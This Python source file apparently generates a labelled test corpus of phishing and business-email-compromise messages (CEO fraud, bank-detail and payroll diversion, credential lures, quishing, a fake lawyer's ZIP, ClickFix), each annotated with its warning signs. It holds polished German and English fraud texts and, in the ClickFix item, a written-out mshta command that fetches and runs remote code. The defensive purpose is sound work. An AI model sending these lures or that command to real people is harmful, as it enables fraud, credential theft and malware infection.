"""Attack messages 01-16 (German 01-08, English 09-16)."""
from kit import *
from business_de_en import B07_MSGID, B07_ORIG_MSGID, B07_REPLY_MSGID

A = 'attack'


def messages():
    out = []

    # ------------------------------------------------------------------ 01 de CEO fraud (Gmail, iPhone)
    p = """Hallo Sabine,

bist du heute Vormittag im Büro? Ich sitze bis mindestens 14 Uhr in Zürich in den Verhandlungen fest und kann nur schreiben, nicht telefonieren.

Wir stehen kurz vor dem Signing für die Mehrheitsbeteiligung an einer Digitalagentur in Wien (intern „Projekt Donau“). Das ist bis zur offiziellen Mitteilung am Montag streng vertraulich – bitte sprich mit niemandem im Haus darüber, auch nicht mit Anna oder Melanie.

Dr. Lukas Gruber von der Kanzlei, die uns bei der Transaktion begleitet, meldet sich gleich per Mail bei dir und schickt dir die Daten für die Anzahlung auf das Treuhandkonto (184.500 EUR). Die Zahlung muss heute noch raus, sonst verlieren wir die Exklusivität gegenüber dem zweiten Bieter.

Bitte antworte nur auf diese Adresse, mein Firmenpostfach synchronisiert auf dem Handy gerade nicht.

Danke dir, ich verlasse mich auf dich.
Jörg

Von meinem iPhone gesendet
"""
    h = ('<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
         '<body dir="auto">' + ''.join('<div dir="ltr">%s</div>' % (esc(l) or '<br>') for l in p.rstrip().split('\n'))
         + '</body></html>\n')
    out.append(M(name='01-de-ceo-fraud-confidential-acquisition', folder=A, lang='de', t=T(10, 15, 7, 48, 10),
                 mailer=I.gmail(host='mail-ej1-f41.google.com', ip='209.85.218.41', apple_ip='185.213.154.77'),
                 frm=('Jörg Hoffmann', 'joerg.hoffmann.eg@gmail.com'), to=[st('sabine.krueger')],
                 rcpt='sabine.krueger@example.com', subject='Vertraulich – kurze Abstimmung',
                 body=alt(p, html_body=h),
                 what='"CEO" asks the CFO to stand by for a confidential acquisition down-payment of EUR 184,500 announced via a lawyer',
                 why='CEO fraud/BEC: CEO display name on a freemail address (gmail.com) sent from an iPhone via a VPN exit; secrecy ("talk to nobody, not even Anna"), time pressure, unreachable by phone, hand-off to a fake lawyer, reply only to this address. The real CEO writes through the internal relay and uses the approval workflow (see business 01).',
                 technique='CEO fraud / BEC (freemail, display-name impersonation, fake lawyer hand-off)',
                 pairs=['01-de-ceo-urgent-payment-internal']))

    # ------------------------------------------------------------------ 02 de supplier bank change (look-alike)
    new_iban = C.de_iban('48050161', '072341896')  # Sparkasse Bielefeld
    p = """Sehr geehrte Frau Schröder,

im Zuge der Zusammenführung unseres Zahlungsverkehrs bei einer neuen Hausbank hat sich unsere Bankverbindung zum 01.11.2026 geändert. Das Schreiben unserer Geschäftsführung mit den neuen Kontodaten finden Sie im Anhang.

Neue Bankverbindung:
Kontoinhaber: Lieferant GmbH
Bank: Sparkasse Bielefeld
IBAN: %s
BIC: SPBIDE3BXXX

Bitte hinterlegen Sie die neue Verbindung in Ihrem Kreditorenstamm und veranlassen Sie die Zahlung der folgenden offenen Rechnungen bereits auf das neue Konto:

RE-2026-10418 vom 07.10.2026   12.480,00 EUR
RE-2026-10433 vom 14.10.2026    6.915,30 EUR

Das bisherige Konto bei der Volksbank ist für Eingänge bereits gesperrt; Zahlungen dorthin werden von der Bank zurückgewiesen, was zu Verzögerungen bei Ihren laufenden Aufträgen führen würde.

Wegen der Umstellung unserer Telefonanlage sind wir in dieser Woche telefonisch nur eingeschränkt erreichbar. Für Rückfragen schreiben Sie mir daher bitte direkt an diese Adresse.

Vielen Dank für Ihre Unterstützung und freundliche Grüße

Petra Lang
Finanzbuchhaltung
Lieferant GmbH
Ravensberger Straße 52 · 33602 Bielefeld
www.lieferant-gmbh.de
""" % C.grp(new_iban)
    pdfl = [('#', 'Lieferant GmbH'), 'Ravensberger Straße 52 · 33602 Bielefeld', '', '',
            'An unsere Geschäftspartner', '', 'Bielefeld, 02.11.2026', '',
            ('b', 'Änderung unserer Bankverbindung'), '',
            'Sehr geehrte Damen und Herren,', '',
            'bitte beachten Sie, dass sich unsere Bankverbindung mit sofortiger Wirkung geändert hat.',
            'Zahlungen auf unser bisheriges Konto können nicht mehr angenommen werden.', '',
            'Kontoinhaber:   Lieferant GmbH', 'Bank:                 Sparkasse Bielefeld',
            'IBAN:                ' + C.grp(new_iban), 'BIC:                  SPBIDE3BXXX', '',
            'Wir bitten Sie, Ihre Stammdaten entsprechend anzupassen und offene Posten',
            'ausschließlich auf die oben genannte Verbindung zu überweisen.', '',
            'Mit freundlichen Grüßen', '', 'Geschäftsführung', 'Lieferant GmbH', '', '',
            ('s', 'Lieferant GmbH · Amtsgericht Bielefeld HRB 41877 · USt-IdNr. ' + org.LIEF_VAT)]
    out.append(M(name='02-de-supplier-bank-change-lookalike', folder=A, lang='de', t=T(11, 4, 8, 37, 12),
                 mailer=I.postfix('mail.lieferant-gmbh.com', 'vmi2381742.contaboserver.net', '62.171.183.40',
                                  submit=('webmail.lieferant-gmbh.com', 'localhost', '127.0.0.1'),
                                  auth='p.lang@lieferant-gmbh.com', msgid='roundcube', boundary='roundcube',
                                  ua='Roundcube Webmail/1.6.9'),
                 frm=('Petra Lang', 'p.lang@lieferant-gmbh.com'), to=[st('anna.schroeder')],
                 rcpt='anna.schroeder@example.com',
                 subject='Aktualisierung unserer Bankverbindung – Lieferant GmbH',
                 body=multi('mixed', text(p, 'utf-8', '8bit', quote_charset=False),
                            att_pdf('Bankverbindung_Lieferant_GmbH_2026.pdf', pdfl, title='Bankverbindung',
                                    author='Lieferant GmbH', creator='Writer', producer='LibreOffice 7.6',
                                    date="D:20261102091544+01'00'")),
                 what='"Lieferant GmbH" announces a new bank account and asks to pay two open invoices there',
                 why='Vendor bank-detail fraud from the look-alike domain lieferant-gmbh.com (real: lieferant-gmbh.de) on a Contabo VPS with Roundcube; old account "blocked", phone verification discouraged, redirect of specific open invoices. Contrast: the genuine change (business 02) comes from lieferant-gmbh.de, keeps the old account open and asks for phone verification.',
                 technique='Supplier bank-detail change, look-alike domain on VPS, PDF letter',
                 pairs=['02-de-lieferant-bank-change-genuine', '03-de-lieferant-reminder-supply-stop']))

    # ------------------------------------------------------------------ 03 de payroll diversion (GMX)
    p = """Hallo Katrin,

kurze Bitte: Ich habe mein Gehaltskonto gewechselt, das alte Konto bei der Haspa wird zum Monatsende geschlossen. Kannst du die Gehaltszahlung für Oktober schon auf die neue Verbindung umstellen?

Kontoinhaber: Moritz Köhler
Bank: ING
IBAN: %s
BIC: INGDDEFFXXX

Ich schreibe von meiner privaten Adresse, weil ich diese Woche beim Kunden in Köln sitze und mit dem Laptop nicht ins VPN komme. Das Formular im Personalportal kann ich deshalb gerade nicht ausfüllen – ich hoffe, es geht ausnahmsweise auch so, damit es mit der Oktober-Abrechnung noch klappt.

Sag mir kurz Bescheid, wenn es erledigt ist.

Danke und viele Grüße
Moritz
""" % C.grp(C.de_iban('50010517', '546218833'))
    out.append(M(name='03-de-payroll-diversion-freemail', folder=A, lang='de', t=T(10, 21, 16, 52, 40),
                 mailer=I.gmx(client_ip='185.195.71.244'),
                 frm=('Moritz Köhler', 'moritz.koehler84@gmx.net'), to=[st('katrin.vogel')],
                 rcpt='katrin.vogel@example.com', subject='Neue Bankverbindung für mein Gehalt',
                 body=text(p, 'UTF-8', 'quoted-printable'),
                 what='"Employee" asks HR to redirect his October salary to a new account',
                 why='Payroll diversion: employee name on an unknown GMX address, sent through a datacentre/VPN IP, asks to bypass the HR self-service portal just before the payroll run. Genuine colleagues writing from private mail (business 04) do not ask for bank changes.',
                 technique='Payroll diversion (freemail, employee impersonation)',
                 pairs=['04-de-colleague-sick-leave-private-mail']))

    # ------------------------------------------------------------------ 04 de e-invoice portal phishing (compromised SMB)
    url = 'https://erechnung-portal.bc47e1.workers.dev/beleg/ER-2026-118734?r=anna.schroeder%40example.com'
    p = """Elektronischer Rechnungseingang

Für Ihr Unternehmen Example Group GmbH wurde eine E-Rechnung im Format XRechnung (UBL 2.1) übermittelt. Die Rechnungsdatei überschreitet die zulässige Anhangsgröße und wurde daher im Empfangsportal für Sie hinterlegt.

Rechnungssteller: Lieferant GmbH
Belegnummer: ER-2026-118734
Rechnungsbetrag: 8.940,20 EUR
Fälligkeit: 24.11.2026

Rechnung anzeigen und prüfen:
%s

Der Abruf ist aus Datenschutzgründen 72 Stunden möglich. Danach wird der Beleg an den Rechnungssteller zurückgewiesen.

Dies ist eine automatisch erzeugte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.
""" % url
    h = page('E-Rechnung', """<table width="600" style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222" cellpadding="0" cellspacing="0">
<tr><td style="background:#003366;color:#fff;padding:16px 24px;font-size:18px">Elektronischer Rechnungseingang</td></tr>
<tr><td style="padding:24px">
<p>Für Ihr Unternehmen <b>Example Group GmbH</b> wurde eine E-Rechnung im Format XRechnung (UBL&nbsp;2.1) übermittelt. Die Rechnungsdatei überschreitet die zulässige Anhangsgröße und wurde daher im Empfangsportal für Sie hinterlegt.</p>
<table style="font-size:14px" cellpadding="4">
<tr><td>Rechnungssteller:</td><td><b>Lieferant GmbH</b></td></tr>
<tr><td>Belegnummer:</td><td>ER-2026-118734</td></tr>
<tr><td>Rechnungsbetrag:</td><td>8.940,20&nbsp;EUR</td></tr>
<tr><td>Fälligkeit:</td><td>24.11.2026</td></tr>
</table>
<p style="margin:28px 0"><a href="%s" style="background:#0a6ebd;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px">Rechnung anzeigen</a></p>
<p style="font-size:12px;color:#666">Der Abruf ist aus Datenschutzgründen 72 Stunden möglich. Danach wird der Beleg an den Rechnungssteller zurückgewiesen.<br>Dies ist eine automatisch erzeugte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.</p>
</td></tr></table>""" % esc(url))
    out.append(M(name='04-de-einvoice-portal-phishing', folder=A, lang='de', t=T(11, 10, 5, 14, 3),
                 mailer=I.postfix('dd41207.kasserver.com', 'dd41207.kasserver.com', '85.13.163.57',
                                  submit=('[192.168.1.4]', 'unknown', '193.32.249.133'), auth='m0451a2b',
                                  msgid='phpmailer', boundary='phpmailer',
                                  xmailer='PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
                 frm=('E-Rechnung Zustellservice', 'buchhaltung@tischlerei-berger.de'), to=[st('anna.schroeder')],
                 rcpt='anna.schroeder@example.com',
                 subject='Neue E-Rechnung (XRechnung) für Example Group GmbH – Beleg ER-2026-118734',
                 body=alt(p, html_body=h),
                 what='Notice that an XRechnung e-invoice from Lieferant GmbH is waiting in a "reception portal"',
                 why='Credential phishing exploiting the German B2B e-invoicing mandate: sent from the hijacked mailbox of an unrelated carpentry shop (All-Inkl account, submitted from a foreign IP), "file too large" pretext, 72-hour deadline, link to a Cloudflare workers.dev page with the recipient address pre-filled; no invoice attached. Genuine Lieferant invoices arrive as attachments from lieferant-gmbh.de.',
                 technique='E-invoicing lure (XRechnung), compromised small-business mailbox, workers.dev credential page',
                 pairs=['03-de-lieferant-reminder-supply-stop']))

    # ------------------------------------------------------------------ 05 de quishing M365 MFA (SES)
    qurl = 'https://egroup-mfa-registrierung.z6.web.core.windows.net/?u=lena.schaefer%40example.com&k=7F3K2Q'
    p = """Sicherheitsrichtlinie 2026: Neuregistrierung der Mehrfaktor-Authentifizierung

Hallo Lena Schäfer,

im Rahmen der Umstellung auf die neue Sicherheitsrichtlinie für Microsoft 365 (Conditional Access) muss die Mehrfaktor-Authentifizierung für alle Konten von example.com bis zum 23.10.2026 neu registriert werden.

So gehen Sie vor:
1. Öffnen Sie die Kamera Ihres Smartphones (nicht die Authenticator-App).
2. Scannen Sie den QR-Code in dieser Nachricht.
3. Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie die Registrierung.

Konten, die bis zum Stichtag nicht neu registriert wurden, werden automatisch für Outlook, Teams und SharePoint gesperrt. Die Entsperrung ist dann nur über ein Ticket beim Service Desk möglich.

Der QR-Code ist persönlich und 48 Stunden gültig.

Ihr IT-Service
Example Group
"""
    cid = 'qr_%s@mitarbeiter-sicherheitsportal.de' % hx('05cid', 12)
    h = page('Microsoft 365', """<div style="max-width:560px;margin:0 auto;font-family:'Segoe UI',Arial,sans-serif;color:#323130">
<div style="padding:18px 0;border-bottom:1px solid #edebe9"><span style="font-size:20px;font-weight:600">Microsoft 365</span> <span style="color:#605e5c">| Example Group IT-Service</span></div>
<h2 style="font-weight:600;font-size:22px">Neuregistrierung der Mehrfaktor-Authentifizierung</h2>
<p>Hallo Lena Schäfer,</p>
<p>im Rahmen der Umstellung auf die neue Sicherheitsrichtlinie für Microsoft&nbsp;365 (Conditional Access) muss die Mehrfaktor-Authentifizierung für alle Konten von example.com bis zum <b>23.10.2026</b> neu registriert werden.</p>
<ol><li>Öffnen Sie die Kamera Ihres Smartphones (nicht die Authenticator-App).</li><li>Scannen Sie den folgenden QR-Code.</li><li>Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie die Registrierung.</li></ol>
<p style="text-align:center"><img src="cid:%s" width="232" height="232" alt="QR-Code"></p>
<p>Konten, die bis zum Stichtag nicht neu registriert wurden, werden automatisch für Outlook, Teams und SharePoint gesperrt.</p>
<p style="font-size:12px;color:#605e5c">Der QR-Code ist persönlich und 48 Stunden gültig.<br>Ihr IT-Service · Example Group</p>
</div>""" % cid)
    out.append(M(name='05-de-quishing-mfa-reregistration', folder=A, lang='de', t=T(10, 20, 5, 5, 31),
                 mailer=I.ses(ip='54.240.4.26'),
                 frm=('IT-Service | Example Group', 'it-service@mitarbeiter-sicherheitsportal.de'),
                 to=[st('lena.schaefer')], rcpt='lena.schaefer@example.com',
                 subject='Aktion erforderlich: Microsoft Authenticator bis 23.10. neu registrieren',
                 body=multi('related', alt(p), qr_png(qurl, 'qr_registrierung.png', cid=cid, inline=True),
                            ctparams=['type="multipart/alternative"']),
                 what='"IT-Service" demands MFA re-registration by scanning a QR code, else lock-out',
                 why='Quishing: external look-alike sender (mitarbeiter-sicherheitsportal.de via Amazon SES) posing as internal IT; the only link is inside a PNG QR code (-> phishing page on *.web.core.windows.net with the address pre-filled), moving the click to an unmanaged phone; lock-out threat. Real IT announces MFA changes internally and says it never uses QR codes in mail (business 05).',
                 technique='Quishing (QR code PNG inline), Microsoft 365 MFA lure, Amazon SES',
                 pairs=['05-de-it-mfa-notice-internal']))

    # ------------------------------------------------------------------ 06 de fake lawyer, encrypted ZIP
    p = """Sehr geehrte Damen und Herren,

wir zeigen an, dass wir die rechtlichen Interessen der Fotografin Frau Katharina Seidel, Berlin, vertreten. Eine auf uns lautende Vollmacht wird anwaltlich versichert.

Unsere Mandantin ist Urheberin der Lichtbilder "Herbstlicht_Elbe_04" und "Herbstlicht_Elbe_11". Diese Aufnahmen werden seit dem 28.09.2026 ohne Lizenz in der von Ihrer Agentur verantworteten Kampagne "Herbstgold" auf dem Instagram-Kanal sowie in bezahlten Anzeigen Ihres Kunden Köster Getränke GmbH genutzt. Eine Nutzungsberechtigung wurde weder Ihnen noch Ihrem Kunden erteilt.

Die Nutzung verletzt die Rechte unserer Mandantin aus §§ 15, 19a, 72 UrhG. Wir fordern Sie namens und in Vollmacht unserer Mandantin auf,

1. die Nutzung der Lichtbilder unverzüglich einzustellen,
2. die beigefügte strafbewehrte Unterlassungserklärung bis zum 01.12.2026 unterzeichnet an uns zurückzusenden,
3. Schadensersatz nach Lizenzanalogie sowie die Kosten unserer Inanspruchnahme in Höhe von insgesamt 4.860,00 EUR zu zahlen.

Die Bildnachweise, Screenshots der Verletzungshandlungen mit Zeitstempeln sowie die vorformulierte Unterlassungserklärung erhalten Sie aus datenschutzrechtlichen Gründen als verschlüsseltes Archiv. Das Kennwort lautet: Az41826

Sollte die Frist fruchtlos verstreichen, werden wir unserer Mandantin empfehlen, ohne weitere Ankündigung gerichtliche Hilfe in Anspruch zu nehmen.

Mit freundlichen Grüßen

Dr. Frank Mertens
Rechtsanwalt
Fachanwalt für Urheber- und Medienrecht

Mertens Rechtsanwälte
Kurfürstendamm 61 · 10707 Berlin
"""
    z = att_zip('Az_418-26_Bildnachweise.zip',
                [('Az_418-26_Bildnachweise_und_Unterlassungserklaerung.pdf.lnk', PLACEHOLDER)],
                password='Az41826', when=(2026, 11, 17, 9, 58, 0), seed='06zip')
    out.append(M(name='06-de-fake-lawyer-copyright-notice-encrypted-zip', folder=A, lang='de', t=T(11, 17, 9, 3, 44),
                 mailer=I.postfix('mail.mertens-medienrecht.de', 'srv612384.hstgr.cloud', '147.79.118.62',
                                  msgid='phpmailer', boundary='phpmailer', hdr_charset='iso-8859-1', hdr_enc='Q',
                                  xmailer='PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
                 frm=('RA Dr. Frank Mertens', 'f.mertens@mertens-medienrecht.de'), to=[st('melanie.fuchs')],
                 rcpt='melanie.fuchs@example.com',
                 subject='Abmahnung wegen Urheberrechtsverletzung - Bildrechte Kampagne "Herbstgold" - Az. 418/26',
                 body=multi('mixed', text(p, 'iso-8859-1', '8bit'), z),
                 what='Copyright cease-and-desist ("Abmahnung") for campaign images with evidence in an encrypted ZIP',
                 why='Malware delivery via fake lawyer: unknown firm on a Hostinger VPS (PHPMailer), legal threat with short deadline, evidence only in a password-protected ZIP (ZipCrypto, password in the mail body defeats scanning) containing a .pdf.lnk double-extension shortcut. Real law firms send plain PDF letters (business 06).',
                 technique='Fake lawyer / copyright notice, password-protected ZIP (ZipCrypto) with .lnk',
                 pairs=['06-de-law-firm-contract-review']))

    # ------------------------------------------------------------------ 07 de fake register invoice (Mailgun)
    pl_iban = C.pl_iban('1090101', '4000007101658831')  # Santander Bank Polska
    p = """Sehr geehrte Damen und Herren,

anbei erhalten Sie die Rechnung zur Eintragung Ihres Unternehmens im Gewerbe- und Branchenregister Deutschland (Branche: Werbeagenturen / Mediaagenturen, Region Hamburg).

Rechnungsnummer: GBR-2026-447812
Kundennummer: 20-318877
Betrag: 1.399,44 EUR (inkl. 19 % USt.)
Zahlungsziel: 15.12.2026

Bitte überweisen Sie den Betrag unter Angabe der Rechnungsnummer auf das in der Rechnung genannte Konto. Bei Fragen erreichen Sie unsere Kundenbetreuung werktags von 9 bis 16 Uhr.

Mit freundlichen Grüßen
Ihr Team des Gewerbe- und Branchenregisters Deutschland
"""
    pdfl = [('#', 'GBR Gewerbe- und Branchenregister Deutschland'), 'Postfach 10 12 44 · 10003 Berlin', '', '',
            'Example Group GmbH', 'Große Elbstraße 145', '22767 Hamburg', '',
            ('#', 'RECHNUNG'), '',
            'Rechnungsnummer: GBR-2026-447812          Rechnungsdatum: 01.12.2026',
            'Kundennummer: 20-318877                        Zahlungsziel: 15.12.2026', '',
            'Registerdaten: HRB 148 207, Amtsgericht Hamburg · USt-IdNr. ' + org.EG_VAT, '',
            ('b', 'Pos.  Leistung                                                                              Betrag'),
            '1      Eintragung Premium-Branchenprofil "Werbeagenturen Hamburg"                  1.176,00 EUR',
            '        Laufzeit 12 Monate, Abrechnungszeitraum 12/2026 - 11/2027', '',
            '        Nettobetrag                                                                        1.176,00 EUR',
            '        zzgl. 19 % USt.                                                                      223,44 EUR',
            ('b', '        Gesamtbetrag                                                                     1.399,44 EUR'), '',
            'Bitte überweisen Sie den Gesamtbetrag unter Angabe der Rechnungsnummer auf folgendes Konto:',
            'Empfänger: GBR Register Services', 'Bank: Santander Bank Polska S.A.',
            'IBAN: ' + C.grp(pl_iban), 'BIC: WBKPPLPP', '', '',
            ('s', 'Diese Offerte beruht auf öffentlich zugänglichen Registerdaten. Mit Zahlung des Betrages nehmen Sie das'),
            ('s', 'Angebot zur Eintragung in unser privates Online-Verzeichnis an. Mindestlaufzeit 36 Monate, jährliche Abrechnung,'),
            ('s', 'Kündigung 3 Monate vor Ablauf. Es besteht kein Zusammenhang mit amtlichen Registern oder Bekanntmachungen.')]
    out.append(M(name='07-de-fake-register-invoice', folder=A, lang='de', t=T(12, 1, 9, 12, 30),
                 mailer=I.mailgun('mg.gbr-register.de', ip='159.135.228.31'),
                 frm=('Gewerbe- und Branchenregister Deutschland', 'rechnung@gbr-register.de'),
                 to=[st('anna.schroeder')], rcpt='anna.schroeder@example.com',
                 subject='Rechnung GBR-2026-447812 – Eintragung Example Group GmbH',
                 body=multi('mixed', text(p, 'utf-8', 'quoted-printable'),
                            att_pdf('Rechnung_GBR-2026-447812.pdf', pdfl, title='Rechnung GBR-2026-447812',
                                    author='GBR', creator='wkhtmltopdf 0.12.6', producer='Qt 5.15.2',
                                    date="D:20261201100900+01'00'")),
                 what='"Invoice" for an entry in a business register, EUR 1,399.44 to a Polish account',
                 why='Fake directory/register invoice: no order or business relationship, invoice layout with the company\'s public register data, the small print reveals it is an offer for a 36-month private directory entry accepted by paying; sent in bulk via Mailgun; foreign IBAN. Genuine supplier invoices reference orders and known accounts (business 03).',
                 technique='Fake register/directory invoice (bulk ESP Mailgun, PDF)',
                 pairs=['03-de-lieferant-reminder-supply-stop']))

    # ------------------------------------------------------------------ 08 de thread hijack (compromised Lieferant mailbox)
    enc = b64('moritz.koehler@example.com')
    url = 'https://lieferant-dokumente.pages.dev/freigabe/?id=' + enc
    p = """Hallo Herr Köhler,

anbei wie besprochen die überarbeiteten Druckdaten sowie die aktualisierte Auftragsbestätigung für die Nachproduktion.

Aufgrund der Dateigröße habe ich Ihnen die Unterlagen über unseren geschützten Dokumentenbereich freigegeben:

Druckdaten_AB_Nachproduktion_Koester.pdf (14,2 MB)
%s

Zum Öffnen melden Sie sich bitte mit Ihrer geschäftlichen E-Mail-Adresse an. Bitte geben Sie uns bis Mittwoch kurz Bescheid, damit wir den Liefertermin halten können.

Mit freundlichen Grüßen

Stefan Maier
Projektleitung Druck & Display

Lieferant GmbH
Ravensberger Straße 52
33602 Bielefeld

________________________________
Von: Moritz Köhler <moritz.koehler@example.com>
Gesendet: Dienstag, 6. Oktober 2026 11:02
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: AW: Druckfreigabe Herbstkampagne Köster – Roll-ups und Thekendisplays

Hallo Herr Maier,

danke für den Proof. Den Claim haben wir wie vorgeschlagen um 3 mm nach innen gesetzt, damit geben wir hiermit frei.

Viele Grüße
Moritz Köhler
""" % url
    h = html_outlook(p, 'windows-1252').replace(
        '<a href="%s">%s</a>' % (esc(url), esc(url)),
        '<a href="%s">%s</a>' % (esc(url), 'Druckdaten_AB_Nachproduktion_Koester.pdf &ndash; Dokument &ouml;ffnen'))
    out.append(M(name='08-de-thread-hijack-compromised-supplier', folder=A, lang='de', t=T(11, 24, 2, 11, 8),
                 mailer=I.m365(tenant='lieferant', x_mailer=None),
                 frm=('Stefan Maier', 's.maier@lieferant-gmbh.de'), to=[st('moritz.koehler')],
                 rcpt='moritz.koehler@example.com',
                 subject='AW: Druckfreigabe Herbstkampagne Köster – Roll-ups und Thekendisplays',
                 in_reply_to=B07_REPLY_MSGID,
                 references=[B07_ORIG_MSGID, B07_MSGID, B07_REPLY_MSGID],
                 body=alt(p, 'windows-1252', html_body=h),
                 what='Reply in a seven-week-old print-approval thread from the supplier\'s real mailbox with a "document area" link',
                 why='Thread hijack from a genuinely compromised partner mailbox (real Lieferant M365 tenant, so sender checks pass): revives a closed thread at 03:11, link text pretends a PDF but points to a Cloudflare pages.dev login page carrying the recipient address base64-encoded; Lieferant normally attaches proofs directly (business 07).',
                 technique='Thread hijack from compromised partner mailbox, AiTM credential page on pages.dev',
                 pairs=['07-de-lieferant-proof-thread-genuine']))

    # ------------------------------------------------------------------ 09 en Meta restriction via Salesforce
    url = 'https://meta-business-appeals.vercel.app/case/7281940356?asset=1843229066174021'
    p = """Meta Business Support

Your ad account has been restricted

Hi Felix Hartmann,

We reviewed the ad account Example Group – Köster Getränke DE (ID: 1843229066174021) and found activity that doesn't follow our Advertising Standards on intellectual property. A rights holder has reported that recent ads in this account use copyrighted material without permission.

As a result, the ad account and the associated Page "Köster Getränke" have been restricted from advertising. Active campaigns have been paused.

If you think we made a mistake, you can request a review. Requests must be submitted within 24 hours, after which the restriction becomes permanent and the Page will be unpublished.

Request review: %s

Case number: #7281940356

Thanks,
Meta Business Support Team

Meta Platforms Ireland Limited, Merrion Road, Dublin 4, D04 X2K5, Ireland
""" % url
    h = page('Meta for Business', """<table width="100%%" cellpadding="0" cellspacing="0" style="background:#f0f2f5;font-family:Helvetica,Arial,sans-serif"><tr><td align="center" style="padding:24px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px">
<tr><td style="padding:20px 28px;border-bottom:1px solid #e4e6eb;font-size:18px;font-weight:bold;color:#0866ff">&#8734; Meta Business Support</td></tr>
<tr><td style="padding:24px 28px;color:#1c1e21;font-size:15px;line-height:21px">
<h2 style="font-size:20px;margin:0 0 14px">Your ad account has been restricted</h2>
<p>Hi Felix Hartmann,</p>
<p>We reviewed the ad account <b>Example Group – Köster Getränke DE</b> (ID: 1843229066174021) and found activity that doesn't follow our Advertising Standards on intellectual property. A rights holder has reported that recent ads in this account use copyrighted material without permission.</p>
<p>As a result, the ad account and the associated Page "Köster Getränke" have been restricted from advertising. Active campaigns have been paused.</p>
<p>If you think we made a mistake, you can request a review. Requests must be submitted within <b>24 hours</b>, after which the restriction becomes permanent and the Page will be unpublished.</p>
<p style="margin:26px 0"><a href="%s" style="background:#0866ff;color:#fff;padding:11px 22px;border-radius:6px;text-decoration:none;font-weight:bold">Request review</a></p>
<p style="color:#65676b;font-size:13px">Case number: #7281940356</p>
<p>Thanks,<br>Meta Business Support Team</p>
</td></tr>
<tr><td style="padding:16px 28px;color:#8a8d91;font-size:11px">Meta Platforms Ireland Limited, Merrion Road, Dublin 4, D04 X2K5, Ireland</td></tr>
</table></td></tr></table>""" % esc(url))
    out.append(M(name='09-en-meta-ad-account-restricted-via-salesforce', folder=A, lang='en', t=T(10, 28, 14, 22, 5),
                 mailer=I.salesforce(),
                 frm=('Meta for Business', 'noreply@salesforce.com'), to=[st('felix.hartmann')],
                 rcpt='felix.hartmann@example.com',
                 subject='Your ad account has been restricted – Case #7281940356',
                 body=alt(p, html_body=h),
                 what='"Meta" says the client\'s ad account is restricted for IP infringement; appeal within 24 h',
                 why='Ad-account takeover phishing aimed at a media buyer: sent through abused Salesforce mass-mail infrastructure (noreply@salesforce.com) instead of facebookmail.com, 24-hour deadline, "Request review" button to a vercel.app page harvesting Facebook/Business Manager logins and 2FA codes.',
                 technique='Trade-portal phishing (Meta Business), abused genuine service (Salesforce)',
                 pairs=[]))

    # ------------------------------------------------------------------ 10 en ClickFix (Google Ads billing, HTML attachment)
    cmd = 'mshta https://adsbilling-review.com/verify/482-113-9076 # \u2705 I am not a robot - reCAPTCHA Verification ID: 8841-2207'
    p = """Google Ads

Action required: payment verification for account 482-113-9076

Hello,

We were unable to verify the payment profile associated with your Google Ads account 482-113-9076 (Example Group UK Ltd). To protect you from unauthorised charges, ad serving for this account has been paused.

To restore your campaigns, complete the billing verification within 48 hours. Open the attached verification document and follow the steps shown. The verification takes less than a minute.

If the verification is not completed, the account will be suspended and outstanding charges will be collected from the primary payment method.

Thank you,
The Google Ads Team

© 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""
    att = page('Google Ads – Billing verification', """<div class="box">
<div class="logo">Google Ads</div>
<h1>Billing verification</h1>
<p>Account 482-113-9076 · Example Group UK Ltd</p>
<div class="cap"><span class="chk"></span> I'm not a robot <span class="rc">reCAPTCHA<br><small>Privacy - Terms</small></span></div>
<div class="steps">
<p><b>Verification step failed.</b> Your browser blocked the automatic check. Complete the verification manually:</p>
<ol>
<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li>
<li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd> to paste your verification code</li>
<li>Press <kbd>Enter</kbd></li>
</ol>
<p>If nothing was copied, copy the verification code below:</p>
<pre id="code">%s</pre>
</div>
<p class="ft">© 2026 Google LLC</p>
</div>""" % esc(cmd), css="""body{background:#f1f3f4;font-family:Roboto,Arial,sans-serif}
.box{max-width:460px;margin:60px auto;background:#fff;border-radius:8px;padding:32px;box-shadow:0 1px 3px rgba(0,0,0,.2)}
.logo{font-size:22px;color:#5f6368}.cap{border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;margin:18px 0}
.chk{display:inline-block;width:22px;height:22px;border:2px solid #c1c1c1;vertical-align:middle;margin-right:10px}
.rc{float:right;font-size:10px;color:#555;text-align:center}kbd{border:1px solid #bbb;border-radius:3px;padding:1px 5px}
pre{white-space:pre-wrap;background:#f8f9fa;padding:8px;font-size:11px}.ft{font-size:11px;color:#80868b}""")
    out.append(M(name='10-en-clickfix-google-ads-billing-html', folder=A, lang='en', t=T(11, 12, 13, 47, 19),
                 mailer=I.postfix('mail.adsbilling-review.com', None, '164.92.181.37', msgid='phpmailer',
                                  boundary='phpmailer', tz='UTC',
                                  xmailer='PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)'),
                 frm=('Google Ads', 'ads-account-noreply@adsbilling-review.com'), to=[st('priya.shah')],
                 rcpt='priya.shah@example.com',
                 subject='Action required: verify your Google Ads payment profile (482-113-9076)',
                 body=multi('mixed', alt(p),
                            attachment('text/html', 'GoogleAds_Billing_Verification_482-113-9076.html',
                                       att.encode('utf-8'), ctparams=['charset="utf-8"'])),
                 what='"Google Ads" says billing could not be verified; open the attached verification page',
                 why='ClickFix: look-alike domain on a DigitalOcean droplet without rDNS, HTML attachment with a fake reCAPTCHA telling the user to press Win+R and paste an "mshta https://..." command disguised as a verification ID (would run remote HTA code); threat of suspension. Real Google Ads billing mail comes from google.com (business 12).',
                 technique='ClickFix (HTML attachment, fake CAPTCHA, Win+R paste), Google Ads billing lure, VPS',
                 pairs=['12-en-google-ads-invoice-genuine']))

